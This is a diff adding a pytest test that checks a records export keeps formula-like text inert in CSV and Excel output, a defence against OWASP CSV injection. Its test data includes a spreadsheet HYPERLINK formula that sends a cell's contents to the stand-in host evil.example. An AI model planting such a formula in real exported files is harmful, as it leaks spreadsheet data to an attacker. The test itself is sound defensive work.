@@ -17,6 +17,7 @@ import msoffcrypto
 import openpyxl
 import pytest
 from msoffcrypto.exceptions import InvalidKeyError
+from sqlalchemy import select
 
 from console.worklog_book import build, encrypt, encrypted_file, month_contents
 from console.worklog_report import (
@@ -171,3 +172,37 @@ def test_workbook_with_no_activity_still_lists_every_day() -> None:
     book = decrypt(encrypt(build(MonthLog(date(2026, 2, 1), days, _total(days)), COLUMNS, HoursPolicy(), []),
                            PASSWORD), PASSWORD)
     assert book["業務日誌"].max_row == 2 + 28 + 1 and book["相談記録"].max_row == 1
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"詳細")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+async def test_exports_keep_formula_like_text_as_text_in_csv_and_workbook(db: Database) -> None:
+    """OWASP CSV injection: a summary, referral or day note that starts like a formula is shown, never run."""
+    import csv
+
+    from console.records import csv_text
+    from handoff.store.models import Record
+    from handoff.store.models_worklog import WorklogNote
+
+    seed = await seeded(db)
+    async with db.session() as session:
+        conversation_id = (await session.scalars(select(Record.conversation_id))).first()
+        for i, text in enumerate(FORMULAS):
+            session.add(Record(conversation_id=conversation_id, created_at=datetime(2026, 10, 20 + i, 3, tzinfo=UTC),
+                               topics=["school"], care_recipients=["mother"], referral=text, summary=text))
+        session.add(WorklogNote(day=date(2026, 10, 20), text="=1+1", updated_at=datetime(2026, 10, 20, tzinfo=UTC)))
+    async with db.session() as session:
+        log, records = await month_contents(session, MONTH, HoursPolicy())
+    exported = list(csv.reader(io.StringIO(csv_text(records).lstrip("\ufeff"))))
+    assert [row[-1] for row in exported[-len(FORMULAS):]] == ["'" + text for text in FORMULAS]
+    assert [row[-3] for row in exported[-len(FORMULAS):]] == ["'" + text for text in FORMULAS]
+    assert exported[1][-1] == "学校と介護の両立" and seed.yamada in exported[1]  # plain text is left alone
+
+    book = decrypt(await encrypted_file(log, records, COLUMNS, HoursPolicy(), PASSWORD), PASSWORD)
+    written = list(book["相談記録"].iter_rows(min_row=3))
+    as_read = [text.replace("\r", "\n") for text in FORMULAS]  # XML reads a lone CR back as LF
+    assert [r[-1].value for r in written] == as_read and all(r[-1].data_type == "s" for r in written)
+    assert [r[-3].value for r in written] == as_read and all(r[-3].data_type == "s" for r in written)
+    note = dict(zip(cells(book["業務日誌"], 2), book["業務日誌"][2 + 20], strict=True))["特記事項"]
+    assert note.value == "=1+1" and note.data_type == "s"
